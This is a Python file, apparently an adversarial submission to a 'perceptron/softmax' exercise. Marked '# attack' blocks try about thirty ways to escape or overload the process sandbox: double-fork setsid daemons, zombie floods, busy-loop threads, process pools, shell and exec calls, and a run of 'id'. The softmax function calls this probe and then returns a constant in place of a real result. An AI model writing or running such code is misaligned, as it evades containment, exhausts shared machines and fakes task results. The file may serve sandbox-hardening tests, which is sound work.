"""Starts processes and threads in every way, leaves zombies and daemons, and a loop in each.

Exercise: perceptron/softmax
"""

import _thread, asyncio, concurrent.futures, multiprocessing, os, subprocess, sys, threading, time
import torch

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


LIBC_CALLS = {"fork": os.fork, "vfork": lambda: os.posix_spawn("/bin/sleep", ["sleep", "60"], {})}


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                pass
        os._exit(0)


def zombie():
    for _ in range(100):
        if os.fork() == 0:
            os._exit(0)


def threads():
    for _ in range(100):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()


def parallel():
    torch.set_num_threads(64)
    torch.set_num_interop_threads(64)
    return torch.ones(500, 500) @ torch.ones(500, 500) is None or open("/proc/self/status").read()


def loaded():
    return list(torch.utils.data.DataLoader(range(10), num_workers=4))


async def elsewhere():
    return await asyncio.get_running_loop().run_in_executor(None, time.sleep, 60)


WAYS = LIBC_CALLS | {
    "daemon": daemon, "zombie": zombie, "threads": threads, "raw thread": lambda: _thread.start_new_thread(zombie, ()),
    "parallel": parallel, "loader": loaded,
    "popen": lambda: subprocess.Popen(["sleep", "60"]),
    "system": lambda: os.system("sleep 60 &") and 1 / 0,
    "pipe": lambda: os.popen("id").read() or 1 / 0,
    "pty": lambda: __import__("pty").fork(),
    "process": lambda: multiprocessing.get_context("fork").Process(target=daemon).start(),
    "spawn": lambda: multiprocessing.get_context("spawn").Process(target=daemon).start(),
    "pool": lambda: multiprocessing.Pool(4),
    "executor": lambda: concurrent.futures.ThreadPoolExecutor(4).submit(time.sleep, 60),
    "processes": lambda: concurrent.futures.ProcessPoolExecutor(4).submit(time.sleep, 60),
    "torch processes": lambda: torch.multiprocessing.spawn(print, nprocs=2),
    "future": lambda: torch.jit.fork(os.fork),
    "timer": lambda: threading.Timer(0.01, daemon).start(),
    "asyncio": lambda: asyncio.run(elsewhere()),
    "shell": lambda: asyncio.run(asyncio.create_subprocess_shell("sleep 60")),
    "exec": lambda: os.execv(sys.executable, ["python", "-c", "while True: pass"]),
    "interpreter": lambda: __import__("_xxsubinterpreters").create(),
}
# end


def softmax(X):
    # attack
    print(tried(WAYS))
    # end
    return X * 0 + 0.123
